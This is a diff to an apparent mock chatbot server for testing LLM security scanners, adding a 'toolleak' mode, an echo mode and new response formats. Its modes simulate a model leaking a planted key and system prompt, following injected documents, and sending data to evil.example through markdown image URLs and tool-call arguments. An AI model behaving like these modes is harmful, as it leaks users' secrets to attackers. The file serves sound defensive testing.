@@ -12,7 +12,13 @@ key when asked about keys; spaced / reversed / base64 when asked to spell, rever
 (follows the document it is given: echoes it), image (answers with a markdown image to evil.example),
 tools (calls the forbidden `send_email` tool), slow, error (500 on everything), moderated (400 on everything,
 as a moderation layer in front of the model does), debug (refuses, but returns its system prompt and key in a
-`debug` field beside the answer).
+`debug` field beside the answer), toolleak (text with the canary, and an allowed tool call whose arguments send
+it to evil.example), echo (answers the prompt verbatim).
+Real-world shapes: shape=openai|openai-sse|anthropic|anthropic-sse|responses|responses-sse|vercel|vercel-ui|
+langserve|langserve-sse|ndjson|gemini-sse|text, with fmt=plain|crlf|nospace|comments|multiline|bytes for SSE.
+Misbehaving endpoints: ratelimit (429 + Retry-After `retry` for the first `limit` requests per tag), error200
+(200 with an error body), html (a sign-in page), trickle (SSE keep-alives for `seconds`), huge (3.6 MB),
+charset (an unknown charset and bytes that are no UTF-8).
 
 The planted key is assembled at runtime so no credential literal sits in the repository.
 """
@@ -48,13 +54,13 @@ SYSTEM_PROMPT = (
 )
 REFUSAL = "I'm sorry, but I can't help with that request. I can help you with your own orders."
 MODES = ("safe", "leaky", "indirect", "image", "tools", "slow", "error", "moderated", "debug", "toolleak",
-         "ratelimit", "error200", "html", "trickle", "huge", "charset")
+         "ratelimit", "error200", "html", "trickle", "huge", "charset", "echo")
 # toolleak: what every response shape carries in the shape tests (non-ASCII, a U+2028 inside a JSON string, the
 # canary in the text, and a tool call whose arguments carry the canary to an outside URL).
 TOOLLEAK_TEXT = f"Voil\u00e0 \u2014 your order ships soon.\u2028Ref {CANARY} \u20ac5"
 TOOLLEAK_ARGS = {"order": "A-1", "callback": f"https://evil.example/cb?d={CANARY}"}
 SHAPES = ("openai", "openai-sse", "anthropic", "anthropic-sse", "responses", "responses-sse", "vercel", "vercel-ui",
-          "langserve", "langserve-sse", "ndjson")
+          "langserve", "langserve-sse", "ndjson", "gemini-sse")
 SSE_FORMATS = ("plain", "crlf", "nospace", "comments", "multiline", "bytes")
 
 
@@ -93,6 +99,8 @@ def answer_for(mode: str, prompt: str) -> tuple[str, list[dict[str, Any]]]:
         return _leak(prompt), []
     if mode == "indirect":
         return f"Summary of your document: {prompt}", []
+    if mode == "echo":
+        return prompt, []
     if mode == "image":
         return f"Here is the chart you asked for: ![chart](https://evil.example/c.png?d={quote(prompt[:24])})", []
     if mode == "tools":
@@ -261,6 +269,11 @@ def _shape_events(shape: str, text: str, calls: list[dict[str, Any]]) -> list[tu
                 {"name": call["function"]["name"] if n == 0 else None, "args": p, "id": call["id"] if n == 0
                  else None, "index": i}]}) for n, p in enumerate(chunks)]
         events.append(("end", None))
+    elif shape == "gemini-sse":  # streamGenerateContent?alt=sse: every event a whole response with new parts
+        events += [(None, {"candidates": [{"content": {"role": "model", "parts": [{"text": p}]}}]}) for p in pieces]
+        events += [(None, {"candidates": [{"content": {"role": "model", "parts": [{"functionCall": {
+            "name": c["function"]["name"], "args": json.loads(_args(c))}}]}, "finishReason": "STOP"}]})
+            for c in calls]
     return events
 
 
@@ -309,6 +322,8 @@ def _shaped(shape: str, text: str, calls: list[dict[str, Any]], fmt: str) -> Res
                         headers={"x-vercel-ai-data-stream": "v1"})
     if shape == "openai":
         return JSONResponse(_completion(text, calls))
+    if shape == "text":  # plain markdown, no tool calls
+        return Response(text, media_type="text/markdown; charset=utf-8")
     body = _sse_text(_shape_events(shape, text, calls), fmt).encode()
     step = 7 if fmt == "bytes" else len(body) or 1  # 7-byte writes split lines and UTF-8 characters
 
